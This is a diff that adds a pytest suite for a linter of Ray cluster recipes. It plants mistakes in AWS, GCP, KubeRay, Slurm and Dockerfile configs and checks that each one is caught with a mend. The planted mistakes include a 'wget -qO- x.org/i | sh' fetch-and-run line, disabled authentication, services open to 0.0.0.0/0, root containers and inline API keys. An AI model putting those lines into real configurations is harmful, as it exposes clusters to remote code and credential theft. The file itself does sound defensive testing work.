@@ -1,0 +1,196 @@
+"""Every recipe for a cluster is right, and one mistake planted in any of them is found, in its line, with its mend."""
+
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from clusters.check import check, run
+from clusters.checks.secrets import secrets_in
+from clusters.config import InputError
+
+ROOT = Path(__file__).parents[1]
+FOLDER = ROOT / "clusters"
+RECIPES = [
+    "local.sh",
+    "aws.yaml",
+    "gcp.yaml",
+    "kuberay/rayjob.yaml",
+    "kuberay/raycluster.yaml",
+    "slurm.sh",
+    "Dockerfile",
+]
+# Drawn by nobody: forms of keys, put together here so that no scanner takes this file for a leak.
+AWS_KEY = "AKIA" + "IOSFODNN7" + "EXAMPLE"
+RANDOM = "q7Xw2" + "Kd9Rt4" + "Vb8Yh3Zp6Lm1"
+
+# Recipe, what stands there, what is planted instead, words of what must be said, and words of the line it is said of.
+PLANTED = [
+    (
+        "aws.yaml",
+        "max_workers: 8\nidle",
+        "max_worker: 8\nidle",
+        "no 'max_worker' (nearest: max_workers)",
+        "max_worker:",
+    ),
+    ("aws.yaml", "min_workers: 2", "min_workers: two", "'two' is not of type 'integer'", "min_workers: two"),
+    ("aws.yaml", "node_type: head", "node_type: heads", "`head_node_type` must be one of", "node_type: heads"),
+    ("aws.yaml", "Type: g5", "Typ: g5", "knows no 'InstanceTyp' (nearest: InstanceType)", "InstanceTyp: g5"),
+    ("aws.yaml", "{VolumeSize: 200", "{VolumeSiz: 200", "no 'VolumeSiz' (nearest: VolumeSize)", "VolumeSiz:"),
+    ("aws.yaml", "  ~/.ray/auth_token: ~/.ray", "  ~/x: ~/.ray", "the nodes get no token file", "file_mounts:"),
+    ("aws.yaml", "host=127.0.0.1", "host=0.0.0.0", "opens the dashboard", "- >-"),
+    ("aws.yaml", "--head --port", "--head --prot", "no --prot (nearest: --port)", "- >-"),
+    ("aws.yaml", "setup_commands: []\nhead", "head", "setup_commands is left to Ray", "# Manyview on AWS"),
+    (
+        "aws.yaml",
+        "setup_commands: []",
+        "setup_commands: [pip install a]",
+        "a is installed in whatever version",
+        "install a",
+    ),
+    ("aws.yaml", "manyview:0.1.0", "manyview:latest", "is not pinned", "manyview:latest"),
+    (
+        "aws.yaml",
+        "    GroupName: manyview",
+        "    IpPermissions: [{FromPort: 8265, ToPort: 8265, IpRanges: [{CidrIp: 0.0.0.0/0}]}]",
+        "open to the whole internet",
+        "IpPermissions",
+    ),
+    ("aws.yaml", "auth:\n", f"auth:  # {AWS_KEY}\n", "an AWS access key stands here (AKIA…)", "auth:  #"),
+    ("gcp.yaml", "machineType: g2", "machinType: g2", "no 'machinType' (nearest: machineType)", "machinType"),
+    ("gcp.yaml", "provisioningModel", "provisionModel", "nearest: provisioningModel", "provisionModel"),
+    ("gcp.yaml", "project_id: YOUR-PROJECT", "project_id: 7", "7 is not of type", "project_id: 7"),
+    ("gcp.yaml", "8\nidle", "8\nmax_workers: 9\nidle", "the key 'max_workers' stands twice", "max_workers: 9"),
+    ("gcp.yaml", "type: gcp", f"type: gcp\n  x: {RANDOM}", "what looks like a key stands here (q7Xw…)", "x: q7"),
+    (
+        "kuberay/rayjob.yaml",
+        "rayVersion:",
+        "rayVersoin:",
+        "no 'rayVersoin' in spec.rayClusterSpec (nearest: rayV",
+        "soin",
+    ),
+    (
+        "kuberay/rayjob.yaml",
+        "backoffLimit: 4",
+        "backoffLimit: four",
+        "valid integer (got 'four')",
+        "backoffLimit: four",
+    ),
+    (
+        "kuberay/rayjob.yaml",
+        "authOptions: {mode: token}",
+        "suspend: false",
+        "authentication is not on",
+        "rayClusterSpec",
+    ),
+    ("kuberay/rayjob.yaml", "rayVersion: 2.60.0", "rayVersion: 2.9.0", "rayVersion is 2.9.0", "2.9.0"),
+    ("kuberay/rayjob.yaml", "image: YOUR", "imag: YOUR", "containers.0 (nearest: image", "imag: YOUR"),
+    ("kuberay/rayjob.yaml", "Mode: K8sJobMode", "Mode: K8s", "'K8sJobMode', 'HTTPMode'", "Mode: K8s"),
+    ("kuberay/raycluster.yaml", '{num-cpus: "0"}', "{num-cpus: 0}", "should be a valid string (got 0)", "num-cpus: 0"),
+    ("kuberay/raycluster.yaml", "ClusterIP", "LoadBalancer", "is open to others; ClusterIP", "LoadBalancer"),
+    ("kuberay/raycluster.yaml", "runAsNonRoot: true", "runAsNonRoot: false", "may run as root", "runAsNonRoot: false"),
+    ("kuberay/raycluster.yaml", "name: shared, mount", "name: share, mount", "(nearest: shared", "share, mount"),
+    ("kuberay/raycluster.yaml", "replicas: 2\n", "replicas: 9\n", "9 is not between minReplicas 2 and", "replicas: 9"),
+    (
+        "kuberay/raycluster.yaml",
+        "            ports:",
+        "            env: [{name: WANDB_API_KEY, value: $HERE}]\n            ports:",
+        "the value of WANDB_API_KEY stands in the file; use valueFrom.secretKeyRef",
+        "WANDB_API_KEY",
+    ),
+    ("local.sh", "    done\n    [ -z", "    [ -z", "bash cannot read this", "}"),
+    ("local.sh", "RAY_AUTH_MODE=token", "RAY_AUTH_MODE=disabled", "authentication is turned off", "MODE=disabled"),
+    ("local.sh", "        ray status\n", "        ray stop\n", "ends every Ray of this machine", "        ray stop"),
+    ("local.sh", "--num-cpus=0", "--num-cpu=0", "no --num-cpu (nearest: --num-cpus)", "start head --head"),
+    ("local.sh", "umask 077\n", "", "readable by others; add `umask 077`", "#!"),
+    ("local.sh", "ray job list", "pkill raylet", "ends processes by name", "pkill"),
+    ("slurm.sh", "--ntasks-per-node", "--ntask-per-node", "nearest: ntasks-per-node", "--ntask-per"),
+    ("slurm.sh", "umask 077\n", "umask 077\n#SBATCH --mem=4G\n", "no #SBATCH after the first command", "--mem=4G"),
+    ("slurm.sh", "--min-nodes", "--minnodes", "no --minnodes (nearest: --min-nodes)", "srun"),
+    (
+        "slurm.sh",
+        "umask 077",
+        "umask 077\nWANDB_API_KEY=abcdefgh",
+        "a value for WANDB_API_KEY stands here (abcd…)",
+        "KEY=a",
+    ),
+    ("Dockerfile", "python:3.11.14-slim-bookworm\n", "python:latest\n", "the base python:latest is not pinned", "FROM"),
+    ("Dockerfile", "USER manyview", "USER root", "runs as root", "USER root"),
+    ("Dockerfile", "COPY clusters /opt", "COPY . /opt", "COPY . takes whatever lies in the folder", "COPY . /opt"),
+    ("Dockerfile", "COPY data", "ADD http://x.org/data.tar", "ADD fetches URLs", "ADD http"),
+    ("Dockerfile", "WORKDIR /opt", "WORKDRI /opt", "knows no WORKDRI (nearest: WORKDIR)", "WORKDRI"),
+    ("Dockerfile", "gcsfs==2026.10.1", "gcsfs", "gcsfs is installed in whatever version", 'RUN if [ "$GOOGLE"'),
+    ("Dockerfile", "       --require-hashes /opt", "       /opt", "by hash", "# The image"),
+    ("Dockerfile", "    RAY_AUTH_MODE=token \\\n", "", "token authentication is not on", "# The image"),
+    ("Dockerfile", "RUN apt-get", "RUN wget -qO- x.org/i | sh && apt-get", "run unseen", "wget -qO-"),
+]
+
+
+@pytest.mark.parametrize("recipe", RECIPES)
+def test_every_recipe_is_right_and_opens_with_its_commands(recipe: str) -> None:
+    text = (FOLDER / recipe).read_text()
+    assert check(recipe, text)[1] == []
+    head = text.split("\n\n")[0] if recipe != "local.sh" else text.split("set -euo")[0]
+    opening = [line for line in head.splitlines() if line.startswith("#")]
+    for word in ("watch", "take down", "submit") if recipe != "Dockerfile" else ("build", "push", "take away"):
+        assert any(word in line for line in opening), word
+
+
+def test_no_recipe_is_forgotten() -> None:
+    there = [p for p in FOLDER.rglob("*") if p.suffix in (".sh", ".yaml") or p.name == "Dockerfile"]
+    assert {str(path.relative_to(FOLDER)) for path in there} == set(RECIPES)
+    assert {recipe for recipe, *_ in PLANTED} == set(RECIPES)
+
+
+@pytest.mark.parametrize(("recipe", "right", "wrong", "said", "line"), PLANTED)
+def test_a_planted_mistake_is_found_in_its_line(recipe: str, right: str, wrong: str, said: str, line: str) -> None:
+    text = (FOLDER / recipe).read_text()
+    assert right in text
+    planted = text.replace(right, wrong, 1)
+    found = [mistake for mistake in check(recipe, planted)[1] if said in str(mistake)]
+    assert found, check(recipe, planted)[1]
+    assert line in planted.splitlines()[found[0].line - 1], found
+    assert found[0].mend
+
+
+def test_secrets_are_told_by_their_first_letters_only() -> None:
+    shown = "".join(map(str, secrets_in(f"x: {AWS_KEY}\npassword = hunter2hunter2\nurl: s3://me:{RANDOM}@host\n")))
+    assert AWS_KEY not in shown
+    assert RANDOM not in shown
+    assert "hunter2" not in shown
+    assert len(list(secrets_in(f"x: {AWS_KEY}\npassword = hunter2hunter2\nurl: s3://me:{RANDOM}@host\n"))) == 3
+
+
+def test_what_only_points_to_a_secret_is_none() -> None:
+    innocent = """
+    RAY_AUTH_TOKEN_PATH=$STATE/token
+    ~/.ray/auth_token: ~/.ray/auth_token
+    automountServiceAccountToken: true
+    valueFrom: {secretKeyRef: {name: manyview, key: auth_token}}
+    image: python@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
+    sourceImage: projects/deeplearning-platform-release/global/images/family/common-cu129-ubuntu-2404
+    """
+    assert list(secrets_in(innocent)) == []
+
+
+def test_the_command_names_file_line_and_mend(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    broken = tmp_path / "job.yaml"
+    broken.write_text((FOLDER / "kuberay/rayjob.yaml").read_text().replace("rayVersion", "rayVersoin"))
+    with pytest.raises(InputError, match="1 mistake; mend"):
+        run([str(broken), str(FOLDER / "kuberay/rayjob.yaml")])
+    shown = capsys.readouterr().out
+    line = broken.read_text().splitlines().index("    rayVersoin: 2.60.0") + 1
+    assert f"{broken}:{line}: KubeRay knows no 'rayVersoin'" in shown
+    assert "still to be replaced: YOUR-CLAIM, YOUR-REGISTRY" in shown
+
+
+def test_a_file_of_no_known_kind_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "x.toml").write_text("a = 1")
+    with pytest.raises(InputError, match="nor a Dockerfile"):
+        run([str(tmp_path / "x.toml")])
+    done = subprocess.run(
+        [sys.executable, "-m", "clusters", "chek", "x"], cwd=ROOT, capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 2
+    assert "nearest: check" in done.stderr
